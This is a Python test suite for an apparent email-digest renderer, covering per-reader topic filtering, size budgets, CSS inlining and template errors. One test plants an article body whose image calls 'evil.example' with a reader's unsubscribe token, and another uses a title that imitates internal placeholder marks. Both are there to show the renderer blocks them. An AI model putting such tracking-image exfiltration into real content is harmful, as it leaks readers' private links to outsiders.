"""A digest is rendered and inlined once; every reader's letter is a join of its pieces."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import escape

from syndicate.emitters.digest import fill_in, inline, render_digest
from syndicate.errors import TemplateError
from syndicate.letters import LATE, Letter, cut, disarmed, join, letter_of, personal_letter
from syndicate.model import Entry, Section
from tests.emitters.press import DIGEST, PICTURE, PROVIDER, UNTIDY_TITLES, digest, full_story
from tests.vocabulary import article

if TYPE_CHECKING:
    from pathlib import Path

    from syndicate.letters import Rendering
    from syndicate.model import Edition

TOPICS = ("solar", "tidal power", "wind")


def stories(count: int) -> list[Entry]:
    """So many stories, on one topic after the other."""
    return [
        Entry(article(f"Story {number}", excerpt="word " * 30, images=(PICTURE,), topics=(TOPICS[number % 3].title(),), provider=PROVIDER))
        for number in range(count)
    ]


def titles(letter: Letter) -> list[str]:
    """The headlines of a letter, in order, as its text part has them."""
    return re.findall(r"^Story \d+$", letter.text, re.MULTILINE)


@st.composite
def editions(draw: st.DrawFn) -> Edition:
    """An edition of a few stories with untidy titles, on some topics, under headings or none."""
    entries = [
        Entry(
            article(
                draw(st.sampled_from(list(UNTIDY_TITLES.values()))),
                excerpt=draw(st.sampled_from(["", "Plain & simple.", '"Quoted" — <b>bold</b>\u00a0&nbsp;'])),
                topics=tuple(draw(st.sets(st.sampled_from(TOPICS)))),
                images=draw(st.sampled_from([(), (PICTURE,), (replace(PICTURE, alt='"'),)])),
                type=draw(st.sampled_from(["article", "video"])),
            )
        )
        for _ in range(draw(st.integers(0, 5)))
    ]
    split = draw(st.integers(0, len(entries)))
    named = [Section("Energy & tides", tuple(entries[:split])), Section("More stories", tuple(entries[split:]))]
    subject = draw(st.sampled_from(["", "{{ lead.title }} and “more”", "{{ edition.entries|length }} stories"]))
    publication = replace(DIGEST, subject=subject)
    return digest(*entries, sections=draw(st.sampled_from([[], named])) if entries else [], publication=publication)


def inlined_by_itself(edition: Edition, rendering: Rendering, letter: Letter) -> str:
    """The letter's HTML as it comes out where its pieces are put together, and its words filled in, before anything is inlined."""
    words = {"SUBJECT": disarmed(letter.subject), "PREHEADER": disarmed(letter.preheader), "MORE": str(letter.left_out)}
    source = join(cut(fill_in(edition)[0]), rendering, letter.stories, len(letter.stories) + letter.left_out)
    return inline(LATE.sub(lambda found: str(escape(words[found[1]])), source))


@given(editions(), st.sets(st.sampled_from(TOPICS)), st.sampled_from([None, 12_000, 20_000]))
@settings(max_examples=60, deadline=None)
def test_a_letter_is_what_inlining_it_by_itself_would_give(edition: Edition, topics: set[str], budget: int | None) -> None:
    """Byte for byte, whatever its reader wants and however many stories were left out."""
    rendering = render_digest(edition)
    letter = personal_letter(rendering, frozenset(topics), budget=budget)
    if letter is not None:
        assert letter.html == inlined_by_itself(edition, rendering, letter)
        assert "__SYN_" not in re.sub("__SYN_(UNSUBSCRIBE|PREFERENCES)__", "", letter.html + letter.text)


@given(editions(), st.sets(st.sampled_from(TOPICS)))
@settings(max_examples=40, deadline=None)
def test_a_reader_gets_the_stories_on_their_topics_and_no_others(edition: Edition, topics: set[str]) -> None:
    """In the edition's order; no letter at all where there are none; no topics means everything."""
    letter = personal_letter(render_digest(edition), frozenset(topics), budget=None)
    wanted = [number for number, entry in enumerate(edition.entries) if not topics or set(entry.article.topics) & topics]
    assert (list(letter.stories) if letter else None) == (wanted if wanted or not edition.entries else None)


def test_the_first_story_on_a_readers_topics_opens_their_letter() -> None:
    """Large, and as the subject; what everybody else opens with is not in it."""
    letter = personal_letter(render_digest(digest(*stories(6))), frozenset({"tidal power"}))
    assert letter is not None
    assert letter.subject == "Story 1"
    assert letter.preheader == "Story 4"
    assert titles(letter) == ["Story 1", "Story 4"]
    assert re.search(r'class="big"[^>]*>\s*<a[^>]*>Story 1<', letter.html)
    assert "Story 0" not in letter.html


def test_a_heading_stands_only_over_cards() -> None:
    """Where none of its stories is wanted, or the only one opens the letter, there is none."""
    one, two, three = stories(3)
    rendering = render_digest(digest(sections=[Section("First", (one,)), Section("Second", (two, three))]))
    for topics, headings in [({"solar"}, []), ({"wind"}, []), ({"solar", "wind"}, ["Second"]), ({"tidal power", "wind"}, ["Second"])]:
        letter = personal_letter(rendering, frozenset(topics))
        assert letter is not None
        assert re.findall(r'class="name"[^>]*>([^<]*)<', letter.html) == headings
        assert [name for name in ("First", "Second") if f"\n{name}\n---" in letter.text] == headings


def test_a_letter_that_is_too_large_leaves_whole_cards_on_the_web() -> None:
    """From the end, as many as it takes; text and HTML hold the same, and both say how many there are."""
    rendering = render_digest(digest(*stories(30)))
    whole = letter_of(rendering, budget=None)
    letter = letter_of(rendering, budget=30_000)
    assert len(letter.html.encode()) <= 30_000 < len(whole.html.encode())
    assert titles(letter) == titles(whole)[: len(letter.stories)]
    assert len(letter.stories) + letter.left_out == 30
    assert f"{letter.left_out} more on the web" in letter.html
    assert f"{letter.left_out} more on the web:\nhttps://news.example.org/digests/weekly/2026-11-16.html" in letter.text
    assert letter.html.count("<table") == letter.html.count("</table")
    one_more = join(rendering.html, rendering, range(len(letter.stories) + 1), 30)
    assert len(one_more.encode()) > 30_000 - 200
    assert (whole.left_out, "more on the web" in whole.html) == (0, False)


def test_the_first_story_runs_however_large_it_is() -> None:
    """A letter without any story would be no letter."""
    assert letter_of(render_digest(digest(*stories(3))), budget=1).stories == (0,)


def test_pieces_do_not_hold_each_other(tmp_path: Path) -> None:
    """A mistake of a template, which is named."""
    (tmp_path / "digest.html").write_text(
        "{% for entry in edition.entries %}\n{% call when.lead(entry) %}{% call when.card(entry) %}x{% endcall %}{% endcall %}{% endfor %}"
    )
    with pytest.raises(TemplateError, match=r"digest\.html:2: when\.lead holds another piece"):
        render_digest(digest(full_story(), templates=(tmp_path,)))


@pytest.mark.parametrize("selector", [".a + .b", ".a ~ .b", ".a:first-child", "tr:nth-child(2)", ".a:not(.b)"])
def test_a_style_that_goes_by_neighbours_is_refused(selector: str) -> None:
    """They differ from one letter to the next, and a letter must look alike however it was put together."""
    with pytest.raises(TemplateError, match="goes by what stands beside"):
        inline(f"<html><head><style>.x {{ color: red }} {selector} {{ color: blue }}</style></head><body><p>x</p></body></html>")


HARMLESS = {
    "a comment": "/* phones + desktops, :first-child ~ */ .a { color: blue }",
    "a comment among declarations": ".a { color: blue /* } .x + .y { */ }",
    "a comment that holds half a string": "/* don't + */ .a { color: blue } /* don't */",
    "an attribute": '.a[class~="a"] { color: blue }',
    "an attribute's text": ".a[title='] + ['], .a { color: blue }",
    "a string that holds half a comment": """.a[title="/*"], .a { color: blue } .b[title="*/"] { color: red }""",
    "a declaration": ".a { color: blue; width: calc(1px + 2px) }",
    "what stays in the sheet": "@media (min-width: 9px) { .b { color: red } .a + .b { color: red } } .a { color: blue }",
}


@pytest.mark.parametrize("style", HARMLESS.values(), ids=HARMLESS.keys())
def test_a_style_that_only_looks_as_if_it_did_is_inlined(style: str) -> None:
    """What stands in comments, strings, brackets and declarations selects nothing, and mail programs read what is not inlined themselves."""
    html = inline(f'<html><head><style>{style}</style></head><body><p class="a">x</p></body></html>')
    assert re.search('<p class="a" style="[^"]*color:blue', html)


@pytest.mark.parametrize(
    "style", ["/* a */ .a/* b */+ .b { color: red }", '.a[title="]"] ~ .b { color: red }', "@import x; .a + .b { a: b }"]
)
def test_a_neighbour_does_not_hide_behind_them(style: str) -> None:
    """They are passed over, and nothing else is."""
    with pytest.raises(TemplateError):
        inline(f"<html><head><style>{style}</style></head><body><p>x</p></body></html>")


@pytest.mark.parametrize(
    ("call", "said"),
    [
        ("lead(edition.lead.article)", "when.lead takes an entry of edition.entries, got an Article"),
        ("card(edition)", "when.card takes an entry of edition.entries, got an Edition"),
        ("story('A')", "when.story takes an entry of edition.entries, got a str"),
        ("story(none)", "when.story takes an entry of edition.entries, got none"),
        ("section(edition.lead)", "when.section takes a section of edition.sections, got an Entry"),
        ("section(edition.sections)", "when.section takes a section of edition.sections, got a tuple"),
        ("lead(edition.leed)", "an edition has no 'leed'; did you mean lead?"),
        ("lead(nothing)", "'nothing' is undefined; define it or test it with `is defined`"),
    ],
)
@pytest.mark.parametrize("name", ["digest.html", "digest.txt"])
def test_a_piece_is_told_what_it_is_a_piece_of(tmp_path: Path, name: str, call: str, said: str) -> None:
    """Template and line, what it takes, and what it was given."""
    (tmp_path / name).write_text(f"<p>\n{{% call when.{call} %}}x{{% endcall %}}")
    with pytest.raises(TemplateError) as caught:
        render_digest(digest(full_story(), templates=(tmp_path,)))
    assert str(caught.value) == f"{tmp_path / name}:2: {said}"


@pytest.mark.parametrize("source", ["", "<!-- nothing -->", "<!doctype html>\n<!--[if mso]><p>x</p><![endif]-->"])
def test_a_page_of_nothing_is_named(tmp_path: Path, source: str) -> None:
    """Comments and all: premailer would fail at it, and not say why."""
    (tmp_path / "digest.html").write_text(source)
    with pytest.raises(TemplateError, match=r"digest\.html: gives nothing; it must be a whole page"):
        render_digest(digest(full_story(), templates=(tmp_path,)))


def test_a_contents_list_holds_what_its_reader_gets(tmp_path: Path) -> None:
    """A template may have pieces of its own, anywhere: here the stories' titles, at the top."""
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "mail_masthead.html").write_text(
        "{% for entry in edition.entries %}{% call when.story(entry) %}<tr><td>* {{ entry.title }}</td></tr>{% endcall %}{% endfor %}"
    )
    letter = personal_letter(render_digest(digest(*stories(6), templates=(tmp_path,))), frozenset({"wind"}))
    assert letter is not None
    assert re.findall(r"\* (Story \d)", letter.html) == ["Story 2", "Story 5"]


def test_an_articles_html_is_no_place_for_a_readers_own_links(tmp_path: Path) -> None:
    """A template may show it as it is: what looks like a token in it stays what it is, and nobody learns of a reader's link."""
    (tmp_path / "partials").mkdir()
    for name in ("mail_lead.html", "mail_card.html"):
        (tmp_path / "partials" / name).write_text("<tr><td>{{ entry.article.body|safe }}</td></tr>")
    body = '<p><img src="https://evil.example/?u=__SYN_UNSUBSCRIBE__"><code>__SYN_END__</code> &amp; more</p>'
    letter = letter_of(render_digest(digest(article("A", body=body), article("B", body=body), templates=(tmp_path,))))
    assert letter.html.count("&amp; more") == 2
    assert letter.html.count("__SYN_UNSUBSCRIBE__") == 1


@pytest.mark.parametrize("text", ["", "plain", "<!--__SYN_CARD_0__--><b>x</b><!--__SYN_END__-->y", "__SYN_LEAD_3__x__SYN_END__"])
def test_cutting_loses_nothing_but_the_marks(text: str) -> None:
    """Pieces in order are the text."""
    pieces = cut(text)
    assert "".join(piece.text for piece in pieces) == re.sub(r"(<!--)?__SYN_\w+?__(-->)?", "", text)
    assert all(piece.text for piece in pieces)


def test_a_title_cannot_pose_as_a_mark() -> None:
    """It is shown, and cuts nothing."""
    hostile = "__SYN_END__ <!--__SYN_CARD_0__--> __SYN_SUBJECT__ __SYN_UNSUBSCRIBE__"
    letter, plain = (letter_of(render_digest(digest(article(title), article("Story 1")))) for title in (hostile, "Plain"))
    assert letter.stories == (0, 1)
    assert letter.subject == hostile
    for part, other in [(letter.html, plain.html), (letter.text, plain.text)]:
        assert "_\u2060_SYN_END" in part
        assert part.count("__SYN_") == other.count("__SYN_")
